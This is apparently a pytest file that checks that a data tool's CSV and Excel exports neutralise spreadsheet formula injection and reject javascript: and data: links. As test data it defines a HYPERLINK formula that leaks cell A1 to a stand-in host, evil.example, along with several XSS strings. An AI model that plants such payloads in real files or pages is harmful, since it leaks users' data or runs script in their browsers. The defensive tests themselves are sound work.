"""Spreadsheet formula injection: a text cell beginning with =, +, -, @, tab or CR comes back with a
quote in front in every CSV and Excel export path (CLI --format csv, API text/csv, the web
downloads, `corridors export`, `survey estimate --format xlsx|csv`); numbers stay numbers, and
xlsxwriter never writes a formula."""

from __future__ import annotations

import csv
import io
import json
import shutil
from pathlib import Path

import openpyxl
import polars as pl
import pytest
import yaml
from fastapi.testclient import TestClient
from typer.testing import CliRunner

from corridors import settings as settings_module
from corridors.analytics.exports import export
from corridors.api.main import create_app
from corridors.cli.main import app
from corridors.errors import InputError
from corridors.governance.ratifications import import_table
from corridors.spreadsheets import neutralise, neutralise_frame
from corridors.web.excel import workbook

runner = CliRunner()
EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
HEADER = "instrument,country,iso3,date,signature_date,action,status,note,source_url\n"


@pytest.mark.parametrize("text", [EVIL, "+1+2", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
def test_every_formula_start_is_neutralised(text):
    assert neutralise(text) == "'" + text
    frame = neutralise_frame(pl.DataFrame({"t": [text, "safe"], "n": [-3, 4]}))
    assert frame["t"].to_list() == ["'" + text, "safe"]
    assert frame["n"].to_list() == [-3, 4]  # numbers stay numbers


def test_plain_values_untouched():
    for value in ("Kenya", "", None, -3, 2.5, "a=b", "1-2"):
        assert neutralise(value) == value


def _imported_home(built_home: Path, tmp_path: Path, note: str = EVIL) -> Path:
    home = tmp_path / "home"
    shutil.copytree(built_home, home)
    table = tmp_path / "c189.csv"
    with table.open("w", encoding="utf-8", newline="") as handle:
        handle.write(HEADER)
        csv.writer(handle, lineterminator="\n").writerow(
            ["C189", "United Republic of Tanzania", "TZA", "2023-05-01", "", "ratification",
             "in force", note, "https://normlex.ilo.org"])
    import_table(table, user_dir=home / "user")
    return home


def test_imported_note_is_neutralised_in_api_and_cli_csv(built_home, tmp_path, mirror):
    home = _imported_home(built_home, tmp_path)
    settings_module.use(settings_module.Settings(home=home, mirror=mirror))
    with TestClient(create_app(home / "corridors.duckdb"), raise_server_exceptions=False) as client:
        answer = client.get("/api/v1/ratifications/TZA", params={"instrument": "C189"},
                            headers={"Accept": "text/csv"})
        assert answer.status_code == 200, answer.text
        rows = list(csv.DictReader(io.StringIO(answer.text)))
        assert rows and rows[0]["note"] == "'" + EVIL
        stocks = client.get("/api/v1/stocks", params={"destination": "KEN", "format": "csv",
                                                      "limit": 5})
        first = next(csv.DictReader(io.StringIO(stocks.text)))
        assert first["value"].isdigit()  # numbers are not quoted
    result = runner.invoke(app, ["--home", str(home), "ratifications", "TZA", "-i", "C189",
                                 "--format", "csv"])
    assert result.exit_code == 0, result.output
    row = next(csv.DictReader(io.StringIO(result.stdout)))
    assert row["note"] == "'" + EVIL
    shown = runner.invoke(app, ["--home", str(home), "ratifications", "TZA", "-i", "C189",
                                "--format", "json"])
    assert json.loads(shown.stdout)["items"][0]["note"] == EVIL  # JSON keeps the text as it is


def test_source_url_must_be_a_web_address(tmp_path):
    table = tmp_path / "bad.csv"
    table.write_text(HEADER + "C189,Kenya,KEN,2023-05-01,,ratification,in force,,"
                     "javascript:alert(1)\n", encoding="utf-8")
    with pytest.raises(InputError) as caught:
        import_table(table, user_dir=tmp_path / "user")
    message = str(caught.value)
    assert "javascript:alert(1)" in message and "row 2" in message and "https://" in message
    assert not (tmp_path / "user" / "ratifications" / "bad.csv").exists()


def test_practice_and_agreement_links_must_be_web_addresses(tmp_path):
    from corridors.governance import agreements, practices

    seed = practices.seed()[0].record()
    seed["link"] = "javascript:alert(1)"
    path = tmp_path / "practices.yaml"
    path.write_text(yaml.safe_dump([seed], sort_keys=False, default_flow_style=False),
                    encoding="utf-8")
    with pytest.raises(InputError, match="http"):
        practices.read_file(path)
    record = agreements.seed()[0].model_dump(mode="json")
    record["source_url"] = "data:text/html,<script>alert(1)</script>"
    path = tmp_path / "agreements.yaml"
    path.write_text(yaml.safe_dump([record], sort_keys=False), encoding="utf-8")
    with pytest.raises(InputError, match="source_url"):
        agreements.read_file(path)


def test_web_workbook_writes_text_never_formulas():
    rows = [{"origin": EVIL, "destination": "KEN", "year": 2020, "stock": -5, "share": 0.25}]
    book = openpyxl.load_workbook(io.BytesIO(workbook(rows, [{"source_id": "@x", "title": EVIL}])))
    sheet = book["corridors"]
    assert sheet["A2"].value == "'" + EVIL and sheet["A2"].data_type == "s"
    assert sheet["D2"].value == -5 and sheet["E2"].value == 0.25
    assert book["sources"]["A2"].value == "'@x"
    assert book["sources"]["C2"].data_type == "s"


def test_export_csv_and_xlsx(tmp_path):
    tables = {"corridors": pl.DataFrame({"note": [EVIL, "fine"], "stock": [-1, 2]})}
    sources = pl.DataFrame({"source_id": ["s"], "title": ["+title"]})
    export(tables, tmp_path / "out", "csv", sources)
    rows = list(csv.DictReader((tmp_path / "out" / "corridors.csv").open(encoding="utf-8")))
    assert rows[0] == {"note": "'" + EVIL, "stock": "-1"}
    [path] = export(tables, tmp_path / "book.xlsx", "xlsx", sources)
    book = openpyxl.load_workbook(path)
    values = [[c.value for c in row] for row in book["corridors"].iter_rows()]
    assert ["'" + EVIL, -1] in values
    assert all(c.data_type != "f" for ws in book for row in ws.iter_rows() for c in row)


def test_survey_category_is_not_a_live_formula(oracles, tmp_path):
    frame = pl.read_csv(oracles / "survey" / "nhanes.csv", infer_schema_length=None)
    frame = frame.with_columns(pl.when(pl.col("race") == pl.col("race").min()).then(pl.lit(EVIL))
                               .otherwise(pl.col("race").cast(pl.String)).alias("race"))
    data = tmp_path / "nhanes.csv"
    frame.write_csv(data)
    mapping = tmp_path / "m.yaml"
    mapping.write_text(yaml.safe_dump({"design": {"weight": "WTMEC2YR", "strata": "SDMVSTRA",
                                                  "psu": "SDMVPSU"},
                                       "reliability": {"suppress": False}}), encoding="utf-8")
    target = tmp_path / "est.xlsx"
    result = runner.invoke(app, ["survey", "estimate", str(data), "-m", str(mapping), "--mean",
                                 "HI_CHOL", "--by", "race", "--format", "xlsx", "--output",
                                 str(target)])
    assert result.exit_code == 0, result.output
    book = openpyxl.load_workbook(target)
    cells = [c for ws in book for row in ws.iter_rows() for c in row]
    assert all(c.data_type != "f" for c in cells)
    assert "'" + EVIL in [c.value for c in cells]
    as_csv = runner.invoke(app, ["survey", "estimate", str(data), "-m", str(mapping), "--mean",
                                 "HI_CHOL", "--by", "race", "--format", "csv"])
    assert as_csv.exit_code == 0, as_csv.output
    races = [r["race"] for r in csv.DictReader(io.StringIO(as_csv.stdout))]
    assert "'" + EVIL in races and EVIL not in races
